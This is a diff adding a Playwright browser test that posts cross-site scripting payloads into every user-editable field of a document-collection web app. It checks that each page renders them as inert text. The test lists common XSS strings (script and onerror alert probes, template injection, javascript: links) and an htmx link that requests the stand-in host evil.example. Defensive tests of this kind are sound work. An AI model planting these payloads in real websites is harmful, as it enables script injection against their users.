@@ -1,0 +1,120 @@
+"""Hostile text wherever people may put text, looked at in a real browser: it is shown, and never anything else.
+
+No dialog, no request to elsewhere, no complaint of the content policy: the `visit` fixture hears all three.
+"""
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page
+
+from tests.conftest import SHARED
+from tests.flow.servers import wait_for
+
+from .conftest import Visit
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.shared, pytest.mark.timeout(900)]
+
+PAYLOADS = SHARED / "corpora" / "hostile" / "html_xss"
+NUM_NAMES, NUM_QUESTIONS = 12, 4
+ALWAYS = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'-alert(1)-'",
+    "{{constructor.constructor('alert(1)')()}}",
+    "</title></textarea><svg/onload=alert(1)>",
+    "javascript:alert(1)//",
+    '<a href="//evil.example/" hx-get="//evil.example/" hx-trigger="load" data-hx-get="//evil.example/">x</a>',
+]
+
+
+@pytest.fixture(scope="module")
+def payloads() -> list[Path]:
+    if not PAYLOADS.is_dir():
+        pytest.skip("../shared is not here: public data sets and corpora are not part of the repository")
+    return sorted(path for path in PAYLOADS.iterdir() if path.stat().st_size)
+
+
+def test_hostile_text_is_text_on_every_page_that_shows_it(visit: Callable[..., Visit], payloads: list[Path]):
+    page = visit("/collections").page
+    lines = [line for line in _lines(payloads) if line.isprintable()]
+    names = [*ALWAYS, *lines[:: max(1, len(lines) // NUM_NAMES)]]
+    shelf = collection_named(page, "".join(ALWAYS)[:200])
+    for number, name in enumerate(names):
+        paste(page, shelf, title=name[:180], text=f"{name}\nNumber {number}.")
+    for path in payloads:
+        paste(page, shelf, title=path.name, text=path.read_text(errors="replace"))
+    upload(page, shelf, "<img src=x onerror=alert(1)>.html", "\n".join(ALWAYS))
+    upload(page, shelf, "payloads.md", "\n\n".join([*ALWAYS, "[a](javascript:alert(1)) ![b](http://evil.example/b)"]))
+    page.goto(shelf)
+    wait_for(lambda: page.locator(".chip.pending").count() == 0, seconds=240, why="the documents are ready")
+
+    documents = page.locator(".documents .name a").evaluate_all("links => links.map(link => link.href)")
+    talk = asked(page, shelf, [*ALWAYS[:2], *lines[: NUM_QUESTIONS - 2]])
+
+    collection = shelf.rsplit("/", 1)[1]
+    for address in (
+        *("/", "/collections", shelf, f"{shelf}/settings", f"{shelf}/import", "/history", "/jobs", "/inbox?state=all"),
+        *(talk, "/usage", "/keys", f"/collections/{collection}?q=%3Cscript%3Ealert(1)%3C/script%3E", *documents),
+    ):
+        page.goto(address)
+        page.wait_for_load_state("networkidle")
+    for name in ALWAYS:
+        probe(page, shelf, name)
+
+
+def asked(page: Page, shelf: str, questions: list[str]) -> str:
+    """The conversation in which they were asked, the first answer called wrong with a hostile comment."""
+    page.goto("/")
+    for number, question in enumerate(questions, start=1):
+        page.fill("#question", question)
+        page.keyboard.press("Enter")
+        page.wait_for_function("n => document.querySelectorAll('.turn .answer .meta').length >= n", arg=number)
+    talk = page.url
+    for trace in page.locator("a:has-text('Why this answer')").evaluate_all("links => links.map(link => link.href)"):
+        page.goto(trace)
+        answer = trace.rsplit("/", 1)[1]
+        post(page, f"/answers/{answer}/feedback", rating="-1", reason="wrong", comment=ALWAYS[1])
+    return talk
+
+
+def probe(page: Page, shelf: str, question: str) -> None:
+    page.goto("/probe")
+    page.select_option("[name=collection]", shelf.rsplit("/", 1)[1])
+    page.fill("[name=q]", question)
+    page.click("form.probe button")
+    page.wait_for_load_state("networkidle")
+
+
+def collection_named(page: Page, name: str) -> str:
+    page.goto("/collections")
+    response = post(page, "/collections", name=name, description="".join(ALWAYS))
+    return response.url
+
+
+def paste(page: Page, shelf: str, **fields: str):
+    return post(page, f"{shelf}/import", **fields)
+
+
+def upload(page: Page, shelf: str, name: str, text: str) -> None:
+    file = {"name": name, "mimeType": "text/plain", "buffer": text.encode()}
+    answered = page.request.post(
+        f"{shelf}/upload", multipart={"csrfmiddlewaretoken": token(page), "files": file}, headers={"Referer": page.url}
+    )
+    assert answered.ok
+
+
+def post(page: Page, address: str, **fields: str):
+    form = {"csrfmiddlewaretoken": token(page), **fields}
+    answered = page.request.post(address, form=form, headers={"Referer": page.url})
+    assert answered.ok, (address, answered.status, fields)
+    return answered
+
+
+def token(page: Page) -> str:
+    return next(cookie["value"] for cookie in page.context.cookies() if cookie["name"] == "csrftoken")
+
+
+def _lines(payloads: list[Path]) -> list[str]:
+    return [line.strip() for path in payloads for line in path.read_text(errors="replace").splitlines() if line.strip()]
